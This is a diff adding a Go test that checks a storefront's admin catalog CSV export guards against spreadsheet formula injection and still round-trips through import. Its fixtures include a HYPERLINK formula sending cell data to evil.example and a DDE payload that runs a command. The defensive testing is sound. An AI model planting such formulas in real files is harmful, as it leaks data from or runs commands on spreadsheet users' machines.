@@ -1,13 +1,18 @@
 package web
 
 import (
+	"bytes"
 	"context"
 	"encoding/csv"
+	"io"
+	"os"
+	"path/filepath"
 	"strings"
 	"testing"
 	"time"
 
 	"storefront/models"
+	"storefront/seed"
 )
 
 // The slot column comes from the events API: a tracker can put a formula
@@ -44,4 +49,53 @@ func TestAnalyticsCSVGuardsEveryTextColumn(t *testing.T) {
 func jsonString(s string) string {
 	r := strings.NewReplacer(`\`, `\\`, `"`, `\"`, "\t", `\t`, "\r", `\r`, "\n", `\n`)
 	return `"` + r.Replace(s) + `"`
+}
+
+// Product titles, descriptions, brands and categories come from suppliers'
+// files, so the catalog export guards them against spreadsheet formulas
+// like the analytics export; the import takes the guard off, so the export
+// still imports back to the same catalog.
+func TestCatalogCSVGuardsFormulasAndImportsBack(t *testing.T) {
+	shop := mustOpenShop(t)
+	ctx := context.Background()
+	want := map[string][3]string{ // SKU: title, description, brand
+		"SKU-1": {`=HYPERLINK("//evil.example/?"&A2,"Tent")`, "-2+3 all seasons", "@SUM(A1)"},
+		"SKU-2": {"+1 Ridge Boot", "=cmd|' /C calc'!A0", "Summit"},
+	}
+	for sku, v := range want {
+		must(t, shop.db.W.Model(&models.Product{}).Where("external_id = ?", sku).
+			Updates(map[string]any{"title": v[0], "description": v[1], "brand": v[2]}).Error)
+	}
+	shop.srv.catalogChanged()
+	admin := shop.staffClient(models.RoleAdmin)
+	res, err := admin.hc.Get(shop.ts.URL + "/admin/catalog.csv")
+	must(t, err)
+	data, err := io.ReadAll(res.Body)
+	res.Body.Close()
+	must(t, err)
+	recs, err := csv.NewReader(bytes.NewReader(data)).ReadAll()
+	must(t, err)
+	for _, rec := range recs[1:] {
+		for i, cell := range rec {
+			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
+				t.Errorf("column %s starts a formula: %q", recs[0][i], cell)
+			}
+		}
+	}
+	for sku := range want {
+		must(t, shop.db.W.Model(&models.Product{}).Where("external_id = ?", sku).
+			Updates(map[string]any{"title": "changed", "description": "changed", "brand": "changed"}).Error)
+	}
+	file := filepath.Join(t.TempDir(), "catalog.csv")
+	must(t, os.WriteFile(file, data, 0o600))
+	if _, err := seed.ImportWith(ctx, shop.db, seed.ImportOptions{Products: file}, io.Discard); err != nil {
+		t.Fatalf("the export does not import back: %v", err)
+	}
+	for sku, v := range want {
+		p, err := shop.db.ProductByExternalID(ctx, sku)
+		must(t, err)
+		if got := [3]string{p.Title, p.Description, p.Brand}; got != v {
+			t.Errorf("%s after the round trip: %q, want %q", sku, got, v)
+		}
+	}
 }
